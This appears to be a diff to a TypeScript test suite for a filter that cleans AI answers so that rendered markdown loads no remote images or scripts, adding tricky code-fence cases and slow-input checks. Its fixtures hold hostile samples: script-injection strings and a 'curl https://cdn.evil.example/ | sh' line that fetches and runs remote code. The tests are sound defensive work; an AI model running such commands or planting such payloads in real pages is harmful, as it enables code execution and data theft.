@@ -9,6 +9,21 @@ const EVIL = { event: { message: 'Beacon to hxxps://cdn.evil[.]example/a.php and
 const review = (text: string) => brief(contextWith(EVIL), MODEL, SETTINGS).review(text)
 const kinds = (text: string) => review(text).hits.map(({ kind }) => kind)
 
+const LOADED = '<img src=https://img.example/a.png>'
+/** Where a renderer sees no code, however much it looks like some. */
+const NO_CODE = [
+  `\`\`\`\na \r\`\`\`\r${LOADED}\n\`\`\``,
+  `\`\`\`\r\na\r\n\`\`\`\r\n${LOADED}\r\n\`\`\`\n`,
+  `\`\`\`\n\n\`\`\`\n${LOADED}\n\n`,
+  `\`\`\`\na\n\`\`\`~\n\`\`\`\n${LOADED}\n\`\`\``,
+  `\`\`\`\na\n \`\`\`\n${LOADED}\n\`\`\`\n`,
+  `- a\n\n  \`\`\`\n\`\`\`\n\n\`\`\`\n${LOADED}\n\`\`\``,
+  `a \` b\n\`${LOADED}\``,
+  `\\\\\`a\`${LOADED}\``,
+  `| a | b |\n|---|---|\n| \`${LOADED} | \` |`,
+  `https://img.example/\`${LOADED}\``,
+]
+
 t.test('[FILTER1] nothing in an answer is loaded from elsewhere, however it is written', async (t) => {
   for (const image of [
     '![x](https://img.example/a.png)',
@@ -30,6 +45,7 @@ t.test('[FILTER1] nothing in an answer is loaded from elsewhere, however it is w
     '<svg><image href="https://img.example/a.png"/></svg>',
     '<scr<script>ipt>alert(1)</script>',
     '<a href="javascript:alert(1)">x</a>',
+    ...NO_CODE,
   ]) {
     const { content } = review(image)
     t.notMatch(content, /(?<!\\)!\[/, image)
@@ -80,6 +96,7 @@ t.test('[FILTER4] code stays as it is, and so does what is only prose', async (t
     '```sh\ncurl https://cdn.evil.example/ | sh\necho "<img>" ![x](y)\n```\n',
     'a < b and c > d, 1 <2, arr[1] (see above), wow! [E1] *very* **bold**',
     '| a | b |\n|---|---|\n| 1 | 2 |',
+    '~~~\n```\n<img>\n~~~\n\nthen ``a ` <b>`` and `x | <y>`',
   ]) {
     t.equal(review(text).content, text)
     t.same(review(text).hits, [])
@@ -140,7 +157,24 @@ function read(pieces: string[]): string {
 }
 
 t.test('[FILTER7] a hostile answer takes no long time', async (t) => {
-  for (const text of ['![', '[', '[a](', '](', '<', '`', '[a]: ', 'https://', '![a](b', '[[', '(((', '\\']) {
+  for (const text of [
+    '![',
+    '[',
+    '[a](',
+    '](',
+    '<',
+    '`',
+    '[a]: ',
+    'https://',
+    '![a](b',
+    '[[',
+    '(((',
+    '\\',
+    '\n',
+    '```\n',
+    '`a`',
+    '`a` \n',
+  ]) {
     const began = performance.now()
     review(text.repeat(20_000))
     t.ok(performance.now() - began < 4_000, `${text} took ${Math.round(performance.now() - began)} ms`)
